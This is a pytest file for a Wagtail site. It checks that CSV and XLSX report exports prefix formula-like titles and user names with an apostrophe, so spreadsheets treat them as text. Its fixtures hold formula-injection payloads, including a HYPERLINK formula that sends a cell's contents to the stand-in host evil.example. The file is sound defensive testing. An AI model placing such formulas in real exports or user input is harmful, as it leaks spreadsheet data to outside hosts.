"""Exported spreadsheets show editors' text as text, never as formulas (home/spreadsheet_export.py)."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from django.utils import timezone, translation

from wagtail.log_actions import log
from wagtail.users.models import UserProfile

from home.models import StandardPage
from home.spreadsheet_export import csv_dict_writer, csv_writer, neutralise_formula
from home.tests.factories import UserFactory

FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A2,"Open the programme")'
HOSTILE_TITLES = [FORMULA_TITLE, "+1+2", "-2+3", "@SUM(A1:A3)", "\t=1+1", "\r=1+1", "\uff1d1+1"]


@pytest.mark.parametrize("text", HOSTILE_TITLES)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["Buddy programme", "a = b", "", "'already text", 12, -3, Decimal("-1.5"), None])
def test_other_values_are_left_alone(value):
    assert neutralise_formula(value) == value


def test_the_project_writers_neutralise_every_cell():
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(["=1+1", "plain", -4])
    writer.writerows([["@x"]])
    dict_writer = csv_dict_writer(buffer, ["title", "count"])
    dict_writer.writeheader()
    dict_writer.writerow({"title": "+cmd", "count": -1})
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["'=1+1", "plain", "-4"], ["'@x"], ["title", "count"], ["'+cmd", "-1"]]


@pytest.fixture
def campaign_admin(client, db):
    user = UserFactory(username="reportadmin", first_name="@Campaign", last_name="Admin", is_superuser=True)
    UserProfile.get_for_user(user).__class__.objects.filter(user=user).update(preferred_language="en")
    client.force_login(user)
    return user


@pytest.fixture
def hostile_pages(home_page, campaign_admin):
    pages = []
    for title in HOSTILE_TITLES:
        page = home_page.add_child(instance=StandardPage(title=title, slug=f"page-{len(pages)}"))
        log(instance=page, action="wagtail.create", user=campaign_admin)
        pages.append(page)
    return pages


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    with translation.override("en"):  # the headings are read while the response streams
        return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.django_db
def test_the_site_history_csv_export_neutralises_titles_and_user_names(client, hostile_pages):
    rows = csv_rows(client.get("/admin/reports/site-history/", {"export": "csv"}))
    names = {row["Name"] for row in rows}
    assert {"'" + title for title in HOSTILE_TITLES} <= names
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)
    assert "'@Campaign Admin" in {row["User"] for row in rows}
    assert all(row["ID"].isdigit() for row in rows), "numbers stay numbers"


@pytest.mark.django_db
def test_the_locked_pages_csv_export_neutralises_titles(client, hostile_pages, campaign_admin):
    for page in hostile_pages:
        page.locked, page.locked_by, page.locked_at = True, campaign_admin, timezone.now()
        page.save()
    rows = csv_rows(client.get("/admin/reports/locked/", {"export": "csv"}))
    assert sorted(row["Title"] for row in rows) == sorted("'" + title for title in HOSTILE_TITLES)


@pytest.mark.django_db
def test_the_site_history_xlsx_export_keeps_titles_as_text_cells(client, hostile_pages):
    response = client.get("/admin/reports/site-history/", {"export": "xlsx"})
    assert response.status_code == 200
    with translation.override("en"):
        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    names = [row[header.index("Name")] for row in sheet.iter_rows(min_row=2)]
    formula_cell = next(cell for cell in names if cell.value == FORMULA_TITLE)
    # A text cell: the spreadsheet shows the title as written instead of running it.
    assert formula_cell.data_type == "s"
    assert all(cell.data_type == "s" for cell in names)
